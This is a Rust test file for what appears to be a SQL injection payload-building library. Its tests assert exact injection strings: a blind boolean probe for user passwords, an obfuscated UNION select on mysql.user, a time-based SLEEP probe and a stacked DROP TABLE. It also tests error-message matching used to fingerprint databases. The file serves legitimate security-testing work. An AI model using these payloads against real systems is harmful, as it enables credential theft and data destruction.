// End-to-end tests: build a tree, emit it, check the exact text.

use sqlcraft::{
    Case, EmitterConfig, EscapeKind, Expr, Field, Function, Injection, Quotes, SqlOps, Statement,
    StatementList, ToSql,
    convert::parse_json_expr,
    dialect::{Dialect, KeywordTable},
    dsl::{self, field, star},
    signature::{ErrorMatcher, SignatureSet},
};

fn obfuscated() -> EmitterConfig {
    EmitterConfig::default()
        .with_space("/**/")
        .with_case(Case::Lower)
        .with_quotes(Quotes::Double)
}

#[test]
fn test_field_equals_literal() {
    assert_eq!(Field::new("id").eq(1).to_sql().unwrap(), "id=1");
}

#[test]
fn test_lowercase_select_with_tail() {
    let stmt = Statement::select(vec![1])
        .where_(Field::new("id").eq(1))
        .unwrap()
        .limit(10)
        .unwrap();
    let config = EmitterConfig::default().with_case(Case::Lower);
    assert_eq!(
        stmt.to_sql_with(&config).unwrap(),
        "select 1 where id=1 limit 10"
    );
}

#[test]
fn test_function_call() {
    assert_eq!(Function::new("MAX", [1, 2]).to_sql().unwrap(), "MAX(1,2)");
}

#[test]
fn test_stacked_queries() {
    let list: StatementList = [Statement::select(1), Statement::drop_table("users")]
        .into_iter()
        .collect();
    assert_eq!(list.to_sql().unwrap(), "SELECT 1; DROP TABLE users");
}

#[test]
fn test_string_injection_default_seed() {
    assert_eq!(Injection::new(EscapeKind::String).to_sql().unwrap(), "1");
}

#[test]
fn test_blind_boolean_payload() {
    // 1' AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64 AND '1'='1
    let probe = Statement::select(Field::new("password"))
        .from("users")
        .unwrap()
        .limit(1)
        .unwrap();
    let mut sqli = Injection::new(EscapeKind::String);
    sqli.and(dsl::ascii(dsl::substr(probe, 1, 1)).gt(64))
        .and(Expr::from("1").eq("1"));

    assert_eq!(
        sqli.to_sql().unwrap(),
        "1' AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64 AND '1'='1"
    );
}

#[test]
fn test_obfuscated_union_payload() {
    let mut sqli = Injection::with_seed(EscapeKind::Integer, -1);
    sqli.union(
        dsl::select(Expr::list([Expr::from(dsl::user()), Expr::from("x")]))
            .from(field("mysql.user"))
            .unwrap(),
    );

    assert_eq!(
        sqli.render(true, &obfuscated()).unwrap(),
        "-1/**/union/**/select/**/user(),\"x\"/**/from/**/mysql.user;--"
    );
}

#[test]
fn test_time_based_payload_with_condition() {
    let mut sqli = Injection::new(EscapeKind::Integer);
    sqli.and(dsl::sleep(5).eq(0).or(field("id").is_not(dsl::null())));
    assert_eq!(
        sqli.to_sql_terminated().unwrap(),
        "1 AND SLEEP(5)=0 OR id IS NOT NULL;--"
    );
}

#[test]
fn test_same_tree_under_two_configs() {
    let stmt = dsl::select(star())
        .from("users")
        .unwrap()
        .where_(field("name").like("adm%"))
        .unwrap();

    assert_eq!(stmt.to_sql().unwrap(), "SELECT * FROM users WHERE name LIKE 'adm%'");
    assert_eq!(
        stmt.to_sql_with(&obfuscated()).unwrap(),
        "select/**/*/**/from/**/users/**/where/**/name/**/like/**/\"adm%\""
    );
}

#[test]
fn test_json_values_feed_the_tree() {
    let values = parse_json_expr(r#"[1, "a", null]"#).unwrap();
    let stmt = dsl::insert()
        .into_table("t")
        .unwrap()
        .values(match values {
            Expr::List(items) => items,
            other => vec![other],
        })
        .unwrap();
    assert_eq!(stmt.to_sql().unwrap(), "INSERT INTO t VALUES (1,'a',NULL)");
}

// ============================================================================
// Collaborator interfaces
// ============================================================================

#[test]
fn test_dialect_keyword_lookup_feeds_functions() {
    let mut mssql = KeywordTable::new("mssql");
    mssql.keyword("length", "LEN").datatype("string", "NVARCHAR");

    let name = mssql.lookup_keyword("length").unwrap();
    assert_eq!(Function::new(name, [field("name")]).to_sql().unwrap(), "LEN(name)");

    let cast_type = mssql.lookup_datatype("STRING", None).unwrap();
    assert_eq!(cast_type.to_sql().unwrap(), "NVARCHAR");
    assert!(mssql.lookup_keyword("unknown").is_none());
    assert_eq!(mssql.name(), "mssql");
}

#[test]
fn test_signature_set_first_match_wins() {
    let mut set = SignatureSet::new();
    set.add("PostgreSQL", "postgres", r"PG::SyntaxError")
        .unwrap()
        .add("MySQL", "mysql", r"SQL syntax.*MySQL")
        .unwrap()
        .add("Generic", "sql", r"SQL syntax")
        .unwrap();
    assert_eq!(set.len(), 3);

    let body = "Warning: You have an error in your SQL syntax; check the manual for your MySQL server";
    let found = set.find(body).unwrap();
    assert_eq!(found.software, "MySQL");
    assert_eq!(found.dialect, "mysql");
    assert!(found.matched_text.starts_with("SQL syntax"));

    assert!(SignatureSet::new().find(body).is_none());
}

#[test]
fn test_signature_set_rejects_bad_pattern() {
    let mut set = SignatureSet::new();
    assert!(set.add("Broken", "sql", "(unclosed").is_err());
    assert!(set.is_empty());
}
